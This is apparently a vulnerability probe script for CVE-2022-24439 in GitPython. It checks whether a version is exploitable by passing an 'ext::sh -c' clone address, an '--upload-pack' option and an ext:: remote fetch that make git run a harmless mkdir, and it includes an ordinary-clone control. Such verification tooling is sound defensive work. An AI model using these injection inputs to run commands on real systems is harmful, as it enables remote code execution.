# /// vertice-probe
# id = "PYSEC-2022-42992"
# aliases = ["CVE-2022-24439"]
# package = "gitpython"
# summary = """\
#   Addresses and options of clone, fetch, pull and push are handed to git unchecked, so an ext:: address or an \
#   --upload-pack option runs a command."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H" }]
# cwe = ["CWE-20"]
# kind = "rce"
# symbols = [
#   "git.Repo.clone_from",
#   "git.Repo.clone",
#   "git.Remote.fetch",
#   "git.Remote.pull",
#   "git.Remote.push",
#   "git.Repo.create_remote",
# ]
#
# [[affected]]
# package = "gitpython"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "3.1.30" }] }]
#
# [cases]
# attack = "clone_from with an ext:: address runs a command that makes a marker"
# [cases.variants]
# option = "clone_from with --upload-pack among multi_options"
# fetch = "fetch from a remote whose address is ext::"
# [cases.controls]
# clone = "an ordinary repository is cloned with --depth and fetched"
#
# [test]
# vulnerable = "3.1.29"
# fixed = "3.1.30"
# ///
"""CVE-2022-24439: addresses and options that make git run a command."""

import json
import os
import sys
import tempfile

BASE = tempfile.mkdtemp()
MARKER = os.path.join(BASE, "marker")


def prepare():
    """GitPython, a repository with one commit, and a folder that does not exist yet."""
    os.environ.update(GIT_CONFIG_GLOBAL=os.devnull, GIT_CONFIG_NOSYSTEM="1", HOME=BASE)
    for name in ("AUTHOR", "COMMITTER"):
        os.environ["GIT_%s_NAME" % name] = "probe"
        os.environ["GIT_%s_EMAIL" % name] = "probe@example.org"
    import git

    source = git.Repo.init(os.path.join(BASE, "source"))
    with open(os.path.join(BASE, "source", "note.txt"), "w") as stream:
        stream.write("hello")
    source.index.add(["note.txt"])
    source.index.commit("first")
    return git, source, os.path.join(BASE, "target")


def judge(run):
    git, source, target = prepare()
    # before 3.1.30 there is no such exception, and nothing to refuse with
    refusals = tuple(
        getattr(git.exc, name) for name in ("UnsafeOptionError", "UnsafeProtocolError") if hasattr(git.exc, name)
    )
    refusal = None
    try:
        run(git, source, target)
    except refusals as error:
        refusal = "%s: %s" % (type(error).__name__, str(error).split(",")[0])
    except git.GitCommandError as error:
        failed = str(error)  # the command is no git server; the marker tells whether it ran
    else:
        failed = "git succeeded"
    if os.path.isdir(MARKER):
        return "exploited", "git ran the command and the marker was made"
    if refusal:
        return "blocked", refusal
    raise RuntimeError("neither run nor refused: %s" % failed[-200:])


def attack():
    return judge(
        lambda git, source, target: git.Repo.clone_from(
            "ext::sh -c mkdir% " + MARKER, target, multi_options=["-c protocol.ext.allow=always"]
        )
    )


def option():
    return judge(
        lambda git, source, target: git.Repo.clone_from(
            "file://" + source.working_dir, target, multi_options=["--upload-pack='mkdir %s;false'" % MARKER]
        )
    )


def fetch():
    def run(git, source, target):
        source.git.execute(["git", "config", "protocol.ext.allow", "always"])
        source.create_remote("other", "ext::sh -c mkdir% " + MARKER).fetch()

    return judge(run)


def clone():
    git, source, target = prepare()
    copy = git.Repo.clone_from("file://" + source.working_dir, target, multi_options=["--depth=1"])
    copy.remotes[0].fetch()
    names = sorted(os.listdir(target))
    return ("works" if names == [".git", "note.txt"] else "broken"), "cloned: %s" % names


CASES = {"attack": attack, "option": option, "fetch": fetch, "clone": clone}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
